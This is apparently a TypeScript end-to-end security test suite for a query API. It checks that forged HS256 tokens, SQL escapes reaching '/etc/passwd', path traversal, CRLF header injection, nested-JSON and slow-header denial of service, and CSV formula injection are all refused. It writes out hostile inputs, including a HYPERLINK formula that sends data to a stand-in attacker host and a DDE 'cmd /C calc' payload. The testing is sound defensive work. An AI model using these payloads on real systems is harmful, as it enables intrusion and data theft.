// A hostile client of the query API, sixth pass: tokens signed the wrong way, analyst SQL
// reaching past the views by spellings the escape corpus does not hold, paths and query values
// shaped to traverse or split the response, bodies built to exhaust the parser, and a client that
// sends its headers a byte at a time. Real Agate with the embedded engine, a real issuer's JWKS,
// raw HTTP and TCP clients.
import { suite } from '../harness/suite.js';
import * as assert from 'uvu/assert';
import { createHmac } from 'node:crypto';
import { connect } from 'node:net';
import pg from 'pg';
import { startEmbeddedAgate, type EmbeddedAgate } from '../harness/embedded-agate.js';
import { until } from '../harness/until.js';

interface Ctx extends EmbeddedAgate {
  analyst: string;
}
const test = suite<Ctx>('e2e/query API hostile client');

test.before(async (ctx) => {
  Object.assign(ctx, await startEmbeddedAgate({
    prefix: 'agate-query-hostile-',
    policyYaml: 'policy:\n  default: allow\n',
    queryYaml: '  roles: { claim: groups, analyst: [sec-analysts] }\n  sql: { max_execution_time_s: 2, max_result_rows: 1000, max_memory_bytes: 268435456 }\n',
  }));
  ctx.analyst = await ctx.issuer.mint({ sub: 'analyst-1', groups: ['sec-analysts'] });
});

test.after((ctx) => ctx.stop?.());

async function post(ctx: Ctx, path: string, body: string, token = ctx.analyst): Promise<{ status: number; text: string; headers: Headers }> {
  const res = await fetch(ctx.base + path, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body });
  return { status: res.status, text: await res.text(), headers: res.headers };
}

test('a token signed with HS256 keyed by the issuer\'s public key (algorithm confusion) is refused', async (ctx) => {
  const jwks = (await (await fetch(ctx.issuer.jwksUri)).json()) as { keys: Array<Record<string, unknown>> };
  const now = Math.floor(Date.now() / 1000);
  const b64u = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
  for (const key of jwks.keys) {
    const head = b64u({ alg: 'HS256', typ: 'JWT', kid: key.kid });
    const claims = b64u({ iss: ctx.issuer.issuer, aud: 'agate', sub: 'forger', groups: ['sec-analysts'], iat: now, exp: now + 300 });
    for (const secret of [JSON.stringify(key), String(key.n ?? key.x ?? '')]) {
      const token = `${head}.${claims}.${createHmac('sha256', secret).update(`${head}.${claims}`).digest('base64url')}`;
      const r = await post(ctx, '/v1/sql', JSON.stringify({ sql: 'SELECT 1' }), token);
      assert.is(r.status, 401, r.text);
      assert.match(r.text, 'HS256');
    }
  }
});

test('analyst SQL past the views by spellings outside the corpus (merge, loop, full-width letters, a statement after a comment) is refused, nothing returned', async (ctx) => {
  const tries = [
    "SELECT * FROM merge('agate', '.*')",
    "SELECT * FROM merge(currentDatabase(), '.*')",
    "SELECT * FROM loop('agate', 'ledger')",
    "SELECT ｆｉｌｅ('/etc/passwd')",
    'SELECT 1 -- ;\n; SELECT * FROM system.one',
    'SELECT 1 /* ; */ ; SELECT name FROM system.tables',
    'WITH commands AS (SELECT * FROM system.tables) SELECT * FROM agate.commands',
    'SELECT * FROM agate.commands FINAL SETTINGS readonly = 0',
    'SELECT * FROM agate.`ledger`',
    'SELECT * FROM "agate"."ledger_events"',
  ];
  for (const sql of tries) {
    const r = await post(ctx, '/v1/sql', JSON.stringify({ sql }));
    assert.is(r.status, 400, `${sql}: ${r.status} ${r.text.slice(0, 300)}`);
    assert.match(r.text, /"code":"SQL_(REFUSED|INVALID)"/, sql);
    assert.not.match(r.text, '"rows"', sql);
  }
  // The views still answer, and a comment is only a comment.
  const ok = await post(ctx, '/v1/sql', JSON.stringify({ sql: 'SELECT count() AS n FROM agate.commands /* SETTINGS readonly = 0 */' }));
  assert.is(ok.status, 200, ok.text);
});

test('paths and query values shaped to traverse or split the answer get a plain error', async (ctx) => {
  const get = async (path: string) => {
    const res = await fetch(ctx.base + path, { headers: { authorization: `Bearer ${ctx.analyst}` } });
    return { status: res.status, text: await res.text(), headers: res.headers };
  };
  for (const path of ['/v1/sessions/..%2F..%2F..%2Fetc%2Fpasswd/timeline', '/v1/commands/..%5c..%5cetc%5cpasswd', '/v1/sessions/%00/timeline']) {
    const r = await get(path);
    assert.ok(r.status === 404 || r.status === 400, `${path}: ${r.status} ${r.text.slice(0, 200)}`);
    assert.not.match(r.text, 'root:', path);
  }
  const split = await get('/v1/sessions?cursor=%0d%0aSet-Cookie:%20stolen=1&limit=1%0d%0aX-Injected:%201');
  assert.is(split.status, 400, split.text);
  assert.is(split.headers.get('set-cookie'), null);
  assert.is(split.headers.get('x-injected'), null);
});

test('a body nested past the parser\'s depth is refused with 400, and the API keeps answering', async (ctx) => {
  const depth = 120_000;
  const nested = `{"sql":"SELECT 1","x":${'['.repeat(depth)}${']'.repeat(depth)}}`;
  const r = await post(ctx, '/v1/sql', nested);
  assert.ok(r.status === 400 || r.status === 200, `${r.status} ${r.text.slice(0, 200)}`);
  const tooBig = await post(ctx, '/v1/sql', JSON.stringify({ sql: `SELECT '${'a'.repeat(300_000)}'` }));
  assert.ok(tooBig.status === 413 || tooBig.status === 400, `${tooBig.status} ${tooBig.text.slice(0, 200)}`);
  const ok = await post(ctx, '/v1/sql', JSON.stringify({ sql: 'SELECT 1 AS one' }));
  assert.is(ok.status, 200, ok.text);
});

test('a client sending its headers a byte at a time is cut off at the login deadline', async (ctx) => {
  const url = new URL(ctx.base);
  const socket = connect(Number(url.port), url.hostname);
  await new Promise<void>((resolve, reject) => (socket.once('connect', resolve), socket.once('error', reject)));
  socket.on('error', () => undefined);
  const started = Date.now();
  let closed = false;
  socket.once('close', () => (closed = true));
  socket.write('GET /v1/sessions HTTP/1.1\r\nHost: x\r\n');
  const drip = 'X-Slow: ' + 'a'.repeat(200);
  for (let i = 0; i < drip.length && !closed && Date.now() - started < 30_000; i++) {
    socket.write(drip[i]!);
    await new Promise((r) => setTimeout(r, 200));
  }
  socket.destroy();
  assert.ok(closed, 'the connection was still open after 30 s');
  assert.ok(Date.now() - started < 15_000, `closed only after ${Date.now() - started} ms`);
});

test('command text an agent wrote as a spreadsheet formula reaches the analyst\'s CSV as text, never as a formula', async (ctx) => {
  const formulas = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3'];
  const token = await ctx.issuer.mint({ sub: 'agent-csv', repository: 'acme/app' });
  const client = new pg.Client({ host: '127.0.0.1', port: ctx.agate.postgres.port, database: 'appdb', user: 'agent', password: token });
  await client.connect();
  try {
    for (const f of formulas) await client.query(`SELECT 1 AS "${f.replace(/"/g, '""')}"`).catch(() => undefined);
    // A text that starts like one: the statement itself, as the record keeps it.
    await client.query('-- =1+1\nSELECT 2');
  } finally {
    await client.end();
  }
  const sql = "SELECT text FROM agate.commands WHERE subject = 'agent-csv' ORDER BY text";
  const csv = await until('the statements recorded', async () => {
    const r = await fetch(`${ctx.base}/v1/sql?format=csv`, { method: 'POST', headers: { authorization: `Bearer ${ctx.analyst}`, 'content-type': 'application/json' }, body: JSON.stringify({ sql }) });
    const text = await r.text();
    return r.status === 200 && text.split('\r\n').length >= formulas.length + 3 ? text : undefined;
  });
  // Every cell (after the header) that a spreadsheet would evaluate starts with an apostrophe instead.
  const cells = csv.split('\r\n').slice(1).filter((l) => l !== '').map((l) => l.replace(/^"|"$/g, ''));
  for (const cell of cells) assert.not.match(cell, /^[=+\-@\t\r]/, cell);
  assert.ok(cells.some((c) => c.startsWith("'-- =1+1")), cells.join('\n'));
  // Numbers keep their sign, in CSV as in JSON.
  const n = await fetch(`${ctx.base}/v1/sql?format=csv`, { method: 'POST', headers: { authorization: `Bearer ${ctx.analyst}`, 'content-type': 'application/json' }, body: JSON.stringify({ sql: 'SELECT -5 AS a, toInt64(-7) AS b, -1.5 AS c' }) });
  assert.is(await n.text(), 'a,b,c\r\n-5,-7,-1.5\r\n');
});

test.run();
